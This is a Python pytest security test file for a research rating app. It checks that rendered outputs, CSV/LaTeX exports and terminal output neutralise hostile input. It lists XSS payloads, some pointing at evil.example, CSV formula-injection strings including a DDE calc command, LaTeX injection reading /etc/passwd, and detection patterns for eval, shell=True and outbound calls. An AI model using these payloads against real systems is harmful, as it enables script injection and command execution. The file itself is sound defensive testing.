"""Hostile texts in outputs, profiles, rationales and names: they stay texts on the screen, in files and on a terminal."""

import csv
import io
import json
import re
import tomllib
from dataclasses import replace
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from study import store
from study.cli.shared import visible
from study.content_kinds import CONTENT_KINDS, example_of
from study.errors import InvalidInput
from study.formats import EXPORTERS
from study.formats.export import csv_bytes
from study.formats.writers.latex import table_latex
from study.metrics.judges import server_chat
from study.protocol.design import Design
from study.records import text_content
from study.ui import state
from study.ui.rater import components, contents
from tests.conftest import CRITERIA, small_study
from tests.security.observed import got

ROOT = Path(__file__).parents[2]
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='//evil.example'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=key></form>",
    "![x](http://evil.example/x.png)",
    "![x][1]\n\n[1]: http://evil.example/x.png",
    "[x](javascript:alert(1))",
    "<http://evil.example>",
    "http://evil.example/auto",
    "$\\rule{5000px}{5000px}$ and $$\\href{javascript:alert(1)}{x}$$",
    ":red[x] :material/delete: :color[x]{background='#fff'}",
    "\x1b[2J\x1b[31mred\x07",
    "abc\u202efdp.exe\u202c \u2066x\u2069 \u200b\ufeff",
    "**bold** `code` ```html\n<b>x</b>\n```",
    "&lt;script&gt; &#60;b&#62; &colon;",
)
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//e")',
)
TAG = re.compile(r"<\s*/?\s*([a-z0-9]+)([^>]*)>", re.I)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", CONTENT_KINDS)
def test_content_of_every_kind_becomes_text_or_formatting_alone(kind: str, text: str) -> None:
    for name, shown in contents.blocks(_filled(example_of(kind), text)):
        got(f"{name}: {shown}")
        if name != "html":
            assert text in shown
            continue
        for tag, attributes in TAG.findall(shown):
            assert tag.lower() in contents.SAFE_TAGS
            assert not attributes.strip(" /")


PIECES = (
    *HOSTILE,
    *("<", ">", "</p>", "&lt;", "`", "\n\n", "![", "](", "javascript:", " onclick=alert(1)", "&#60;"),
)


@given(st.text(max_size=300) | st.lists(st.sampled_from(PIECES), max_size=8).map("".join))
def test_no_markdown_becomes_more_than_formatting(text: str) -> None:
    tags = TAG.findall(contents.safe_html(text))
    got(f"tags: {sorted({tag for tag, _ in tags})}")
    for tag, attributes in tags:
        assert tag.lower() in contents.SAFE_TAGS
        assert not attributes.strip(" /")


def test_the_browser_takes_everything_but_safe_html_as_text() -> None:
    got(f"places that set HTML: {components.PAGE_CODE.count('innerHTML')}")
    assert components.PAGE_CODE.count("innerHTML") == 1
    assert 'if (name === "html") node.innerHTML = text; else node.textContent = text;' in components.PAGE_CODE
    assert {kind for kind in CONTENT_KINDS if "html" in dict(contents.blocks(example_of(kind)))} == {
        "markdown"
    }


def _filled(value: Any, text: str) -> Any:
    """Return content with every text but its kind replaced, also labels."""
    if isinstance(value, str):
        return text
    if isinstance(value, list):
        return [_filled(one, text) for one in value]
    names = {key: key for key in ("kind", *(entry.field for entry in CONTENT_KINDS.values()), "role", "text")}
    return {names.get(key, text): one if key == "kind" else _filled(one, text) for key, one in value.items()}


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_message_quotes_has_no_links_images_or_formulas(text: str) -> None:
    said = state.harmless(f"{text!r} is not allowed")
    got(said)
    assert not re.search(r"(?<!\\)[\[\]$<]", said)
    assert not re.search(r"(?<!\\)[\[\]$<`*_:]", state.escaped(text))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_or_header_of_a_csv_file_is_a_formula(text: str) -> None:
    for row in csv.reader(io.StringIO(csv_bytes({text: [text]}).decode(), newline="")):
        got(f"cell: {row[0]!r}")
        assert not re.match(r"[=+\-@\t\r\n]", row[0])


@pytest.mark.parametrize("format", EXPORTERS)
def test_exports_of_a_hostile_study_are_whole_and_hold_no_formula(
    empty_db: store.Database, format: str
) -> None:
    records = small_study(
        design=Design(criteria=CRITERIA[:1], quota=6, rationale="optional", min_view_seconds=0)
    )
    texts = [*FORMULAS, *HOSTILE]
    records.outputs = [
        replace(one, system=f"={one.system}", condition="@c", content=text_content(texts[place % len(texts)]))
        for place, one in enumerate(records.outputs)
    ]
    records.profiles = [replace(one, name=f"+{one.name}") for one in records.profiles]
    records.items = [replace(one, name=f"-{one.name}", tags={"=t": "=v"}) for one in records.items]
    store.save_records(empty_db, records)
    rater = store.enrol(empty_db, "small", external_id='=HYPERLINK("//evil")')
    for text in texts:
        task = store.current_task(empty_db, rater)
        if task is None:
            break
        store.record_judgment(empty_db, rater, task.assignment_id, "fit", 0, "left", rationale=text)
    judgments = store.judgments(empty_db, "small", texts=True)
    data = EXPORTERS[format].write(judgments, include_external_ids=True).data
    got(f"{format}: {len(data):,} bytes, {len(judgments)} judgments")
    if format.endswith("csv"):
        rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
        assert {len(row) for row in rows} == {len(rows[0])}
        assert len(rows) == 1 + len(judgments)
        assert not [cell for row in rows for cell in row if re.match(r"[=+@\t\r\n]|-(?!\d)", cell)]
    elif format.endswith("jsonl"):
        lines = data.decode().split("\n")[:-1]
        shown = [
            {json.loads(text)["text"].strip() for text in pair}
            for pair in zip(judgments["output_a"], judgments["output_b"], strict=True)
        ]
        n_alike = sum(len(pair) == 1 for pair in shown) if format == "preferences_jsonl" else 0
        assert len(lines) == len(judgments) - n_alike
        assert all(isinstance(json.loads(line), dict) for line in lines)


@pytest.mark.parametrize(
    "text", ["\\input{/etc/passwd}", "\\write18{id}", "$x$", "a & b % c # d _ e", "{}~^\\"]
)
def test_no_cell_of_a_latex_table_is_a_command(text: str) -> None:
    made = table_latex(pd.DataFrame({"Name": [text]}), "Systems", "systems")
    got(made.splitlines()[-4])
    assert "\\input{" not in made
    assert "\\write18" not in made


@given(st.text(max_size=100))
def test_a_terminal_gets_no_sign_that_steers_it(text: str) -> None:
    shown = visible(text)
    got(f"shown: {shown!r}")
    assert all(sign.isprintable() or sign == "\n" for sign in shown)


def test_the_configuration_is_the_guarded_one() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text("utf-8"))
    got(f"address {config['server']['address']}, error details {config['client']['showErrorDetails']}")
    assert config["server"]["address"] == "127.0.0.1"
    assert config["server"]["maxUploadSize"] == 500
    assert config["server"].get("enableXsrfProtection", True)
    assert config["server"].get("enableCORS", True)
    assert not config["server"].get("trustedUserHeaders")
    assert not config["server"].get("enableStaticServing", False)
    assert not config["server"].get("enableAgentApi", False)
    assert config["client"]["showErrorDetails"] == "none"
    assert config["client"]["toolbarMode"] == "viewer"
    assert config["browser"]["gatherUsageStats"] is False


@pytest.mark.parametrize("path", sorted((ROOT / "study").rglob("*.py")), ids=lambda path: path.stem)
def test_nothing_in_the_program_calls_home_or_runs_what_it_reads(path: Path) -> None:
    """What goes out is a judge's server and a model that the researcher names; see study/metrics.

    Pickles go through the pipes between the app and its own worker alone, which nobody else can write to.
    """
    text = path.read_text("utf-8")
    assert not re.search(
        r"(?<!\.)\b(eval|exec)\(|shell=True|yaml\.(unsafe_)?load\((?!text, Loader=_Loader)", text
    )
    if path.parent != ROOT / "study" / "workers":
        assert "pickle" not in text
    got(f"searched {len(text.splitlines())} lines of {path.name}")
    assert "trust_remote_code=True" not in text
    if not path.is_relative_to(ROOT / "study" / "metrics"):
        assert not re.search(
            r"urllib\.request|http\.client|import requests|httpx|telemetry|sentry|analytics\.", text
        )


@pytest.mark.parametrize(
    "name",
    [
        "BLINDPAIR_RESEARCHER_KEY",
        "BLINDPAIR_VIEWER_KEY",
        "AWS_SECRET_ACCESS_KEY",
        "HOME",
        "PATH",
        "DATABASE_URL",
        "a b_KEY",
    ],
)
def test_no_other_secret_of_the_machine_is_sent_to_a_judges_server(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(name, "a secret of the machine")
    with pytest.raises(InvalidInput, match="cannot hold a server's key") as caught:
        server_chat("http://127.0.0.1:9/v1", "m", key_variable=name)
    assert "a secret of the machine" not in str(caught.value)
